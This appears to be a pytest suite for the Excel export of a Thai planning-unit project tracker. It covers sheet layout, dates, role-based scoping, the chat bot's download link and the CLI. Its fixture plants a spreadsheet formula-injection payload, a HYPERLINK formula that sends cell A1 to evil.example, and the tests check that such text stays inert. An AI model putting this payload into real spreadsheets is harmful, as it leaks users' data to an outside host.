"""The planning unit's spreadsheet: built from a seeded database and read back with openpyxl."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import requests
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from conversations.grammar import Intent, understand
from core.report_schema import REPORT_FIELDS
from sheets.workbook import build_xlsx
from storage.db import make_engine, make_session_factory
from storage.enums import Source
from storage.models import Agency, Indicator, IndicatorQuarterReport, Project
from storage.models.indicators import indicator_natural_key
from storage.scope import scope_of
from tests.cli import run_cli
from tests.sample import CODE, OFFICER, OFFICER_BN, SUP_BN, SUP_TK, bot, seed
from tests.stack import TODAY, Stack

__all__ = ["bot"]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def _hostile(sessions: sessionmaker[Session]) -> None:
    """Formula-looking text in a project name and an obstacle; an indicator with a Q1 report."""
    with sessions.begin() as s:
        project = s.scalars(select(Project).where(Project.code == "50470000-3431")).one()
        project.name = HOSTILE
        first = s.scalars(select(Project).where(Project.code == CODE)).one()
        first.reports[-1].obstacles = "+1 ขาดแคลนวัสดุ\n@SUM(1,2)"
        bn = s.scalars(select(Agency).where(Agency.code == "50470000")).one()
        name = "-ร้อยละของผู้ใช้บริการห้องสมุดที่พึงพอใจ"
        indicator = Indicator(agency_id=bn.id, fiscal_year=2570, number="1", name=name,
                              natural_key=indicator_natural_key(bn.id, 2570, "1", name),
                              target_value=Decimal("80.5"), target_unit="ร้อยละ")
        s.add(indicator)
        s.flush()
        s.add(IndicatorQuarterReport(indicator_id=indicator.id, quarter=1, narrative="สำรวจแล้ว",
                                     achieved_value=Decimal("82.25"),
                                     submitted_at=datetime(2026, 12, 31, 20, 0, tzinfo=UTC)))


@pytest.fixture
def sessions(db_url: str):
    """The sample world on each backend, with hostile text and an indicator."""
    engine = make_engine(db_url)
    factory = make_session_factory(engine)
    seed(factory)
    _hostile(factory)
    yield factory
    engine.dispose()


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _rows(sheet) -> list[dict[str, Any]]:
    head = [c.value for c in sheet[1]]
    return [dict(zip(head, (c.value for c in row), strict=True))
            for row in sheet.iter_rows(min_row=2)]


def test_the_whole_sheet_typed_thai_frozen_filtered_and_safe(sessions) -> None:
    with sessions() as session:
        book = _book(build_xlsx(session, TODAY))
    assert book.sheetnames == ["โครงการ", "เดือนที่ค้างส่ง", "ปัญหาอุปสรรค",
                               "ตัวชี้วัด ไตรมาส 1", "ตัวชี้วัด ไตรมาส 2", "ตัวชี้วัด ไตรมาส 3",
                               "ตัวชี้วัด ไตรมาส 4"]
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref is not None
        assert sheet.auto_filter.ref.startswith("A1:")
        assert all(any("\u0e00" <= ch <= "\u0e7f" for ch in str(c.value)) for c in sheet[1])
    projects = book["โครงการ"]
    head = [c.value for c in projects[1]]
    for f in REPORT_FIELDS:  # every declared report field has its column, by its Thai label
        assert f"รายงานล่าสุด {f.label}" in head
    rows = {r["รหัสโครงการ"]: r for r in _rows(projects)}
    assert len(rows) == 5
    row = rows[CODE]
    assert row["งบประมาณที่ได้รับ (บาท)"] == 500000
    assert isinstance(
        row["งบประมาณที่ได้รับ (บาท)"], int | float)
    assert row["งบประมาณที่ใช้ไป (บาท)"] == 50000
    assert row["รายงานล่าสุด ความก้าวหน้าของงาน"] == 25.5
    assert row["รายงานล่าสุด ครั้งที่"] == 2
    assert row["ปีงบประมาณ (พ.ศ.)"] == 2570
    assert row["รายงานล่าสุด วันที่ส่ง"] == datetime(2026, 11, 18)  # a printout: its own date
    assert row["วันที่สิ้นสุดโครงการ"] == datetime(2027, 9, 30)
    assert row["รายงานล่าสุด เป็นไปตามแผน"] == "เป็นไปตามแผน"
    date_cell = projects.cell(2 + sorted(rows).index(CODE), head.index("วันที่สิ้นสุดโครงการ") + 1)
    assert date_cell.is_date
    assert "107041E" in date_cell.number_format
    assert rows["50490000-3572"]["จำนวนเดือนที่ค้างส่ง"] == 0  # ต.ค. 2569 in, พ.ย. still open
    assert rows["50470000-3431"]["จำนวนเดือนที่ค้างส่ง"] == 1  # never reported: ต.ค. is late
    assert rows["50470000-3431"]["เดือนที่ค้างส่ง"] == "ต.ค. 2569"
    late = [(r["รหัสโครงการ"], r["เดือนที่ค้างส่ง"]) for r in _rows(book["เดือนที่ค้างส่ง"])]
    assert late == [("50470000-3431", datetime(2026, 10, 1)),
                    ("50490000-3573", datetime(2026, 10, 1))]  # its November came, not October
    # formula-looking text stays text
    hostile = [c for r in projects.iter_rows() for c in r if c.value == HOSTILE]
    assert len(hostile) == 1
    assert hostile[0].data_type == "s"
    obstacles = _rows(book["ปัญหาอุปสรรค"])
    assert [o["ปัญหา/อุปสรรค"] for o in obstacles] == ["+1 ขาดแคลนวัสดุ\n@SUM(1,2)"]
    assert all(c.data_type != "f" for s in book for r in s.iter_rows() for c in r)
    [q1] = _rows(book["ตัวชี้วัด ไตรมาส 1"])
    assert q1["ผลที่ได้ (ค่า)"] == 82.25
    assert q1["ค่าเป้าหมาย"] == 80.5
    assert q1["วันที่ส่งรายงาน"] == datetime(2027, 1, 1)  # Bangkok's day
    assert q1["ชื่อตัวชี้วัด"].startswith("-")
    [q2] = _rows(book["ตัวชี้วัด ไตรมาส 2"])
    assert q2["รายงานแล้ว"] == "ยังไม่รายงาน"
    assert q2["ผลที่ได้ (ค่า)"] is None


def test_scope_and_filters(sessions) -> None:
    with sessions() as session:
        tk = _rows(_book(build_xlsx(session, TODAY, scope_of(session, SUP_TK)))["โครงการ"])
        assert sorted(r["รหัสโครงการ"] for r in tk) == ["50490000-3572", "50490000-3573"]
        officer = _book(build_xlsx(session, TODAY, scope_of(session, OFFICER_BN)))
        rows = _rows(officer["โครงการ"])
        assert {r["รหัสหน่วยงาน"] for r in rows} == {"50470000"}
        assert all(r["ผู้รับผิดชอบโครงการ"] is None for r in rows)  # agency officer: no names
        assert _rows(officer["ตัวชี้วัด ไตรมาส 1"])[0]["รหัสหน่วยงาน"] == "50470000"
        tk_book = _book(build_xlsx(session, TODAY, scope_of(session, SUP_TK)))
        assert _rows(tk_book["ตัวชี้วัด ไตรมาส 1"]) == []
        assert _rows(tk_book["ปัญหาอุปสรรค"]) == []
        fy = _rows(_book(build_xlsx(session, TODAY, None, "50470000", 2566))["โครงการ"])
        assert [r["รหัสโครงการ"] for r in fy] == ["50470000-0001"]


@pytest.mark.parametrize("said", ["ส่งออก excel", "ขอไฟล์ excel ค่ะ", "export excel",
                                  "ดาวน์โหลด Excel", "ส่งออกเอ็กเซล"])
def test_the_command_is_understood(said: str) -> None:
    assert understand(said).intent is Intent.EXCEL


def test_excel_link_through_the_stack_is_scoped(bot: Stack) -> None:
    _hostile(bot.services.sessions)
    [msg] = bot.ask("ส่งออก excel", user=SUP_BN)
    assert "ลิงก์นี้ใช้ได้ถึง" in msg["text"]
    url = msg["text"].rsplit("\n", 1)[1]
    assert url.startswith(f"{bot.bot_url}/media/")
    assert url.endswith(".xlsx")
    resp = requests.get(url, timeout=10)
    assert resp.status_code == 200
    assert resp.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert resp.headers["Content-Disposition"].startswith("attachment;")
    codes = {r["รหัสโครงการ"] for r in _rows(_book(resp.content)["โครงการ"])}
    assert codes == {CODE, "50470000-3431"}  # FY 2570 of บางนา only
    [msg] = bot.ask("ขอไฟล์ excel", user=SUP_TK)  # another agency's supervisor
    url = msg["text"].rsplit("\n", 1)[1]
    book = _book(requests.get(url, timeout=10).content)
    codes = {r["รหัสโครงการ"] for r in _rows(book["โครงการ"])}
    assert codes == {"50490000-3572", "50490000-3573"}
    assert HOSTILE not in {c.value for s in book for r in s.iter_rows() for c in r}
    assert _rows(book["ตัวชี้วัด ไตรมาส 1"]) == []
    [msg] = bot.ask("export excel", user=OFFICER)  # bound to one project
    url = msg["text"].rsplit("\n", 1)[1]
    codes = {r["รหัสโครงการ"]
             for r in _rows(_book(requests.get(url, timeout=10).content)["โครงการ"])}
    assert codes == {CODE}


def test_cli_export_xlsx(sessions, db_url: str, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    done = run_cli("export", "--format", "xlsx", "--database-url", db_url)
    assert done.exit_code == 0
    assert done.stdout.strip() == "tidtam.xlsx"
    assert len(_rows(openpyxl.load_workbook(tmp_path / "tidtam.xlsx")["โครงการ"])) == 5
    narrow = run_cli("export", "--format", "xlsx", "--agency", "50490000", "--fiscal-year",
                     "2570", "-o", "tk.xlsx", "--database-url", db_url)
    assert narrow.exit_code == 0
    rows = _rows(openpyxl.load_workbook(tmp_path / "tk.xlsx")["โครงการ"])
    assert sorted(r["รหัสโครงการ"] for r in rows) == ["50490000-3572", "50490000-3573"]
    unknown = run_cli("export", "--format", "xlsx", "--agency", "99999999",
                      "--database-url", db_url)
    assert unknown.exit_code == 2
    assert "unknown agency" in unknown.output


def test_the_writer_keeps_odd_text_and_counts_columns(tmp_path: Path) -> None:
    from sheets.table import HEAD, STYLES, Cell, Column, table
    from sheets.xlsx import column_letter, write_xlsx

    assert [column_letter(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
    odd = ["a & b <c> \"d\" 'e'", "bell\x07 gone\ttab\nline", "x" * 40_000, "-1", "@me"]
    columns = (Column("ข้อความ", Cell.TEXT, lambda v: v), Column("ความยาว", Cell.INT, len))
    path = tmp_path / "odd.xlsx"
    with path.open("wb") as out:
        write_xlsx(out, [table("แปลก & <ชื่อ>", columns, odd)], STYLES, HEAD)
    sheet = openpyxl.load_workbook(path)["แปลก & <ชื่อ>"]
    got = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert got[0] == odd[0]
    assert got[1] == "bell gone\ttab\nline"
    assert got[2] == "x" * 32_767  # Excel's limit for a cell
    assert got[3:] == ["-1", "@me"]
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == [len(v) for v in odd]


def test_a_report_filed_in_chat_is_dated_the_day_it_was_sent_as_in_every_view(sessions) -> None:
    with sessions.begin() as s:
        project = s.scalars(select(Project).where(Project.code == CODE)).one()
        latest = project.reports[-1]
        latest.source = Source.BOT  # the November form, sent on 7 December in Bangkok
        latest.submitted_at = datetime(2026, 12, 6, 20, 0, tzinfo=UTC)
        latest.obstacles = "รอวัสดุ"
    with sessions() as session:
        book = _book(build_xlsx(session, TODAY))
    row = {r["รหัสโครงการ"]: r for r in _rows(book["โครงการ"])}[CODE]
    assert row["รายงานล่าสุด วันที่ส่ง"] == datetime(2026, 12, 7)
    sent = [r["วันที่ส่ง"] for r in _rows(book["ปัญหาอุปสรรค"]) if r["รหัสโครงการ"] == CODE]
    assert datetime(2026, 12, 7) in sent
